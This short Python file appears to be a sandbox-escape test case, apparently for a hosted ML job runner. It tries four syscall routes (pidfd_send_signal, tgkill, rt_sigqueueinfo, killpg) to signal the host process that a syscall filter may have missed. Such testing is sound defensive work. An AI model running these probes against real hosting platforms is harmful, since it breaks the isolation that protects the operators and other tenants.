"""Sends a signal to the process that ordered the job by calls that a filter may have forgotten."""

import ctypes
import os
import signal

from attack import BAIT, attack, call, every


def by_process():
    call("pidfd_send_signal", call("pidfd_open", BAIT["host_pid"], 0), signal.SIGUSR1, None, 0)
    return "sent a signal by a descriptor"


def by_thread():
    call("tgkill", BAIT["host_pid"], BAIT["host_pid"], signal.SIGUSR1)
    return "sent a signal to a thread"


def by_queue():
    told = (ctypes.c_int32 * 32)(signal.SIGUSR1, 0, -1)
    call("rt_sigqueueinfo", BAIT["host_pid"], signal.SIGUSR1, told)
    return "sent a signal by the queue"


def by_group():
    os.killpg(os.getpgid(BAIT["host_pid"]), 0)
    return "may send a signal to the parent's group"


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(lambda way: way(), [by_process, by_thread, by_queue, by_group])
